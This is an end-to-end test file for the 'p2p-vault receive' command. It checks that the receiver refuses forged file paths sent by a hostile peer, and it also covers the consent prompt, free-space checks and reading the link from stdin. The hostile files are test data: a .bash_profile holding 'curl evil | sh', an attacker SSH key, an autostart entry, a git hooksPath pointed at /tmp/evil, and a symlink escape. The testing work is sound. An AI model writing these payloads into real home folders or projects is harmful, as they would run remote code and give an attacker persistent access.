import { execFile } from 'node:child_process';
import { readdir, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, test } from './support/test';
import { cliReceive, cliSend, printed, runOnTerminal, stopCliPeers, type CliRun } from './support/cli-peer';
import { hostileSend } from './support/hostile-sender';
import { sha256OfFile, tempDir, writeRandomFile, writeSparseFile } from './support/temp-files';

// Issue 17, hostile peers: `p2p-vault receive` (the real process) against a sender that
// forges its manifest (tests/e2e/support/hostile-sender-process.ts: the project's own
// sender code with a made-up file list), on the real server. The receiver refuses
// before any byte is written, and the sender is told why by name. Also the consent
// question (on a pseudo-terminal, util-linux `script`), --yes, and `receive -`.

const MB = 1024 * 1024;
const run = promisify(execFile);

test.describe.configure({ timeout: 60_000 });
test.afterEach(async () => {
  await stopCliPeers();
});

const cleanups: (() => Promise<void>)[] = [];
async function scratch() {
  const dir = await tempDir();
  cleanups.push(dir.remove);
  return dir.path;
}
test.afterEach(async () => {
  // Last in, first out: a tmpfs is unmounted before the folder holding it is removed.
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

/** Every file and folder under `dir`, as relative paths, sorted. */
async function tree(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true });
  return entries.map(String).sort();
}

const text = (s: string) => new TextEncoder().encode(s);

/** The sender's exit, with what it said on failure. */
async function senderOutcome(sender: CliRun) {
  const exit = await sender.exit;
  return { code: exit.code, stderr: exit.stderr };
}

test('dotfiles in a home folder: .bash_profile, .ssh/authorized_keys, .config/autostart are refused, nothing written, the sender sees path_refused', async ({ baseURL }) => {
  const home = await scratch();
  const sender = await hostileSend(
    [
      { path: 'notes.txt', bytes: text('harmless') },
      { path: '.bash_profile', bytes: text('curl evil | sh\n') },
      { path: '.ssh/authorized_keys', bytes: text('ssh-ed25519 AAAA attacker\n') },
      { path: '.config/autostart/x.desktop', bytes: text('[Desktop Entry]\nExec=evil\n') },
    ],
    { server: baseURL!, scratch: await scratch() },
  );

  // --yes: consent is not what stops it; the path rule is.
  const exit = await cliReceive(await sender.link, home, { server: baseURL!, args: ['--yes'] });
  expect(exit.code, exit.stderr).toBe(1);
  expect(exit.stderr).toMatch(/^error path_refused: Refused "\.bash_profile" \(and 2 more such paths\): .*--allow-hidden/m);
  expect(exit.stdout).toBe('');
  expect(await tree(home)).toEqual([]);

  const sent = await senderOutcome(sender);
  expect(sent.code, sent.stderr).toBe(1);
  expect(sent.stderr).toMatch(/^error path_refused: recipient 1: The recipient refused a file’s path/m);
});

test('a hidden folder deeper in the path is refused too; --allow-hidden accepts it byte-identical', async ({ baseURL }) => {
  const out = await scratch();
  const forged = [{ path: 'project/.git/config', bytes: text('[core]\n\thooksPath = /tmp/evil\n') }];
  const refused = await hostileSend(forged, { server: baseURL!, scratch: await scratch() });
  const exit = await cliReceive(await refused.link, out, { server: baseURL!, args: ['--yes'] });
  expect(exit.code, exit.stderr).toBe(1);
  expect(exit.stderr).toMatch(/^error path_refused: Refused "project\/\.git\/config": /m);
  expect(await tree(out)).toEqual([]);
  expect((await senderOutcome(refused)).stderr).toMatch(/error path_refused: recipient 1:/);

  const allowed = await hostileSend(forged, { server: baseURL!, scratch: await scratch() });
  const accepted = await cliReceive(await allowed.link, out, { server: baseURL!, args: ['--yes', '--allow-hidden'] });
  expect(accepted.code, accepted.stderr).toBe(0);
  expect(await tree(out)).toEqual(['project', 'project/.git', 'project/.git/config']);
  expect(accepted.stdout.trim()).toBe(join(out, 'project/.git/config'));
  expect((await senderOutcome(allowed)).code).toBe(0);
});

test('a folder link inside --out is not followed: nothing lands outside --out, the sender sees path_refused', async ({ baseURL }) => {
  const out = await scratch();
  const outside = await scratch();
  await symlink(outside, join(out, 'link'));
  const sender = await hostileSend([{ path: 'link/pwned.txt', bytes: text('pwned') }], { server: baseURL!, scratch: await scratch() });

  const exit = await cliReceive(await sender.link, out, { server: baseURL!, args: ['--yes'] });
  expect(exit.code, exit.stderr).toBe(1);
  expect(exit.stderr).toMatch(/^error path_refused: Refused "link\/pwned\.txt": link is a symbolic link in the output folder, and links are never followed\./m);
  expect(await tree(outside)).toEqual([]);
  expect(await tree(out)).toEqual(['link']);
  expect((await senderOutcome(sender)).stderr).toMatch(/^error path_refused: recipient 1:/m);
});

test('without a terminal and without --yes: exit 2 before connecting, nothing written; the link still works with --yes, byte-identical', async ({ baseURL }) => {
  const src = await scratch();
  const out = await scratch();
  const expected = await writeRandomFile(join(src, 'report.bin'), 3 * MB);
  const sender = cliSend([join(src, 'report.bin')], { server: baseURL! });
  const link = await sender.link;

  const refused = await cliReceive(link, out, { server: baseURL! });
  expect(refused.code, refused.stderr).toBe(2);
  expect(refused.stderr).toContain('stdin is not a terminal: pass --yes to accept without asking');
  expect(await tree(out)).toEqual([]);
  // The hint to keep the key out of the process list, on stderr (not with --quiet).
  expect(refused.stderr).toContain('hint: `p2p-vault receive -` reads the link from stdin');

  const accepted = await cliReceive(link, out, { server: baseURL!, args: ['--yes'] });
  expect(accepted.code, accepted.stderr).toBe(0);
  expect(await tree(out)).toEqual(['report.bin']);
  expect(await sha256OfFile(join(out, 'report.bin'))).toBe(expected);
  expect(accepted.stderr).toContain('The sender offers 1 file, 3.0 MiB in all:');
  expect((await sender.exit).code).toBe(0);
});

test('not enough free space (an 8 MiB tmpfs): refused before any byte with insufficient_space naming both figures', async ({ baseURL }) => {
  const out = await scratch();
  await run('mount', ['-t', 'tmpfs', '-o', 'size=8m', 'tmpfs', out]);
  cleanups.push(() => run('umount', [out]).then(() => {}));
  const src = await scratch();
  await writeSparseFile(join(src, 'huge.bin'), 64 * MB);
  const sender = cliSend([join(src, 'huge.bin')], { server: baseURL! });

  const exit = await cliReceive(await sender.link, out, { server: baseURL!, args: ['--yes'] });
  expect(exit.code, exit.stderr).toBe(1);
  expect(exit.stderr).toMatch(
    /^error insufficient_space: Not enough free space in the output folder: the files need 64 MiB \(67108864 bytes\) plus 16 MiB to spare, and only 8\.0 MiB \(8388608 bytes\) is free\./m,
  );
  expect(await tree(out)).toEqual([]); // not even a part file
  const sent = await sender.exit;
  expect(sent.code).toBe(1);
  expect(sent.stderr).toMatch(/^error insufficient_space: recipient 1: Not enough free disk space/m);
});

test('receive - reads the link from stdin: not in the process arguments, byte-identical', async ({ baseURL }) => {
  const src = await scratch();
  const out = await scratch();
  const expected = await writeRandomFile(join(src, 'secret.bin'), 1 * MB);
  const sender = cliSend([join(src, 'secret.bin')], { server: baseURL! });
  const link = await sender.link;
  const key = link.split('#')[1]!;

  const receiving = cliReceive('-', out, { server: baseURL!, args: ['--yes'], stdin: `${link}\n` });
  expect(receiving.run.process.spawnargs.join(' ')).not.toContain(key);
  const exit = await receiving;
  expect(exit.code, exit.stderr).toBe(0);
  expect(exit.stderr).not.toContain('hint:');
  expect(await sha256OfFile(join(out, 'secret.bin'))).toBe(expected);
  expect((await sender.exit).code).toBe(0);
});

test('receive - without --yes and without any terminal (no /dev/tty): exit 2, nothing written', async ({ baseURL }) => {
  const src = await scratch();
  const out = await scratch();
  await writeRandomFile(join(src, 'a.bin'), 1000);
  const sender = cliSend([join(src, 'a.bin')], { server: baseURL! });
  const exit = await cliReceive('-', out, { server: baseURL!, stdin: `${await sender.link}\n`, noTerminal: true });
  expect(exit.code, exit.stderr).toBe(2);
  expect(exit.stderr).toContain('stdin carried the link and there is no terminal to ask: pass --yes to accept without asking');
  expect(await tree(out)).toEqual([]);
});

test.describe('the question on a terminal (pseudo-terminal)', () => {
  async function offer(baseURL: string, files: { name: string; size: number }[]) {
    const src = await scratch();
    const hashes = new Map<string, string>();
    for (const f of files) hashes.set(f.name, await writeRandomFile(join(src, f.name), f.size));
    const sender = cliSend(
      files.map((f) => join(src, f.name)),
      { server: baseURL },
    );
    return { sender, link: await sender.link, hashes };
  }

  test('y: the list and "Accept 2 files (…) into DIR? [y/N]" are shown, then the files arrive byte-identical', async ({ baseURL }) => {
    const out = await scratch();
    const { sender, link, hashes } = await offer(baseURL!, [
      { name: 'a.bin', size: 2 * MB },
      { name: 'b.txt', size: 100 },
    ]);
    const receiving = cliReceive(link, out, { server: baseURL!, terminal: true });
    await printed(receiving.run, '? [y/N] ');
    const shown = receiving.run.output().stdout;
    expect(shown).toContain('The sender offers 2 files, 2.0 MiB in all:');
    expect(shown).toMatch(/ +2\.0 MiB {2}a\.bin\r\n +100 B {2}b\.txt\r\n/);
    expect(shown).toContain(`Accept 2 files (2.0 MiB) into ${out}? [y/N] `);
    expect(await tree(out)).toEqual([]); // nothing before the answer
    receiving.run.process.stdin!.write('y\n');
    const exit = await receiving;
    expect(exit.code, exit.stdout).toBe(0);
    expect(await tree(out)).toEqual(['a.bin', 'b.txt']);
    for (const [name, hash] of hashes) expect(await sha256OfFile(join(out, name))).toBe(hash);
    expect((await sender.exit).code).toBe(0);
  });

  test('n (or just Enter): declined, exit 1, nothing written; the sender sees declined', async ({ baseURL }) => {
    const out = await scratch();
    const { sender, link } = await offer(baseURL!, [{ name: 'a.bin', size: 100_000 }]);
    const receiving = cliReceive(link, out, { server: baseURL!, terminal: true });
    await printed(receiving.run, '? [y/N] ');
    receiving.run.process.stdin!.write('\n');
    const exit = await receiving;
    expect(exit.code, exit.stdout).toBe(1);
    expect(exit.stdout).toMatch(/error declined: You declined the files\. Nothing was written\./);
    expect(await tree(out)).toEqual([]);
    const sent = await sender.exit;
    expect(sent.code).toBe(1);
    expect(sent.stderr).toMatch(/^error declined: recipient 1: The recipient declined the files\./m);
  });

  test('the link piped into receive -, the answer from the terminal (/dev/tty)', async ({ baseURL }) => {
    const out = await scratch();
    const { sender, link, hashes } = await offer(baseURL!, [{ name: 'piped.bin', size: 500_000 }]);
    // p2p-vault's stdin is the pipe carrying the link; only /dev/tty is the terminal.
    const receiving = runOnTerminal('printf "%s\\n" "$LINK" | exec "$NODE" bin/p2p-vault.mjs receive --server "$SERVER" --out "$OUT" -', {
      env: { LINK: link, NODE: process.execPath, SERVER: baseURL!, OUT: out },
    });
    await printed(receiving, '? [y/N] ');
    expect(receiving.output().stdout).toContain(`Accept 1 file (488 KiB) into ${out}? [y/N] `);
    receiving.process.stdin!.write('yes\n');
    const exit = await receiving.exit;
    expect(exit.code, exit.stdout).toBe(0);
    expect(await tree(out)).toEqual(['piped.bin']);
    expect(await sha256OfFile(join(out, 'piped.bin'))).toBe(hashes.get('piped.bin'));
    expect((await sender.exit).code).toBe(0);
  });
});
